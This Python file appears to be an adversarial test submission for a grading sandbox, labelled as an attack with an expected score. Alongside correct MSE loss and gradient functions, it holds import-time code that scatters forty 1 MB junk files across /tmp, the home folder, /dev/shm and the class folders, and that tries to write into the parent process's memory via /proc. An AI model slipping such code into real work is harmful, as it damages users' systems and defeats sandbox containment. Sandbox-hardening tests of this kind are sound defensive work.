# attack: files outside the scratch -- 40 files of 1 MB, named bpl-litter-*, in /tmp, HOME, the
#   working folder, /var/tmp, /dev/shm, this student's folder and the class folder; and a look at
#   the parent's memory. Honest otherwise.
# expect: 10
import os


HERE = os.path.dirname(os.path.abspath(__file__))


def _litter():
    folders = ["/tmp", os.path.expanduser("~"), os.getcwd(), "/var/tmp", "/dev/shm", HERE, os.path.dirname(HERE)]
    for number in range(40):
        folder = folders[number % len(folders)]
        try:
            with open(os.path.join(folder, f"bpl-litter-{number}"), "wb") as file:
                file.write(b"x" * 1_000_000)
        except OSError:
            pass
    try:
        with open(f"/proc/{os.getppid()}/mem", "r+b") as file:
            file.write(b"x")
    except OSError:
        pass


_litter()


def mse_loss(y_pred, y_true, reduction="mean"):
    if reduction not in ("mean", "sum", "none"):
        raise ValueError(f"unknown reduction {reduction!r}")
    squared = (y_pred - y_true) ** 2
    if reduction == "none":
        return squared
    return squared.mean() if reduction == "mean" else squared.sum()


def mse_grad(y_pred, y_true, reduction="mean"):
    if reduction not in ("mean", "sum"):
        raise ValueError(f"unknown reduction {reduction!r}")
    grad = 2 * (y_pred - y_true)
    return grad / y_pred.size if reduction == "mean" else grad
